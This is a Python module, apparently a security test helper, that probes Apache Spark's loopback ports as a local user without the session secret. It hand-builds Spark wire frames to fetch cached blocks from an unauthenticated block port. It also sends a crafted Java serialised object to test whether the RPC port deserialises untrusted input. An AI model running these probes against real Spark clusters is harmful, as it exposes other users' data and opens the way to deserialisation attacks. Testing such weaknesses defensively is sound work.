"""Attack on Spark's ports by another user of the machine, who has no secret of the session.

The attacker scans loopback ports and uses Spark's wire protocol (Spark, `common/network-common`). A frame is
its length (8 bytes, including itself), a type (1 byte) and a body. An RPC request has an id (8 bytes) and the
length of its payload (4 bytes).
"""

from __future__ import annotations

import socket
import struct

SECONDS = 5.0
"""How long the attacker waits for an answer."""
_RPC_REQUEST, _RPC_RESPONSE, _CHUNK_REQUEST, _CHUNK = 3, 4, 0, 1
_OPEN_BLOCKS = 0
PLANTED = "stranger.Planted"
"""Name of a Java class that no class path has: an error that names it read the attacker's object."""


def fetched_block(port: int, block: str, executor: str = "driver") -> bytes:
    """Return the bytes of a block that the block port serves to an unauthenticated client, if any."""
    wanted = struct.pack(">B", _OPEN_BLOCKS) + _text("stranger") + _text(executor)
    wanted += struct.pack(">i", 1) + _text(block)
    with socket.create_connection(("127.0.0.1", port), SECONDS) as line:
        kind, body = _answer(line, _request(wanted))
        if kind != _RPC_RESPONSE:
            return b""
        # position of the type, after request id and length of the message
        stream = struct.unpack(">q", body[13:21])[0]
        kind, body = _answer(line, _frame(_CHUNK_REQUEST, struct.pack(">qi", stream, 0)))
        return body[12:] if kind == _CHUNK else b""


def deserialises(port: int) -> bool:
    """Return whether the RPC port reads a Java object from an unauthenticated client."""
    # the message has no address of sender and receiver
    message = b"\0\0" + _utf("nobody") + _java_object(PLANTED)
    with socket.create_connection(("127.0.0.1", port), SECONDS) as line:
        _, body = _answer(line, _request(message))
    return PLANTED.encode() in body


def _request(payload: bytes) -> bytes:
    return _frame(_RPC_REQUEST, struct.pack(">qi", 7, len(payload)), payload)


def _frame(kind: int, header: bytes, payload: bytes = b"") -> bytes:
    return struct.pack(">qB", 9 + len(header) + len(payload), kind) + header + payload


def _answer(line: socket.socket, request: bytes) -> tuple[int, bytes]:
    """Return type and body of the answer; (-1, empty) if the connection is closed or silent."""
    try:
        line.sendall(request)
        length, kind = struct.unpack(">qB", _read(line, 9))
        return kind, _read(line, length - 9)
    except (OSError, struct.error):
        return -1, b""


def _read(line: socket.socket, length: int) -> bytes:
    found = b""
    while len(found) < length:
        part = line.recv(length - len(found))
        if not part:
            break
        found += part
    return found


def _text(text: str) -> bytes:
    return struct.pack(">i", len(text)) + text.encode()


def _utf(text: str) -> bytes:
    return struct.pack(">h", len(text)) + text.encode()


def _java_object(name: str) -> bytes:
    """Serialise an object of a class without fields (Java Object Serialization Specification, 6)."""
    described = b"\x72" + _utf(name) + struct.pack(">qBh", 1, 2, 0) + b"\x78\x70"
    return b"\xac\xed\x00\x05\x73" + described
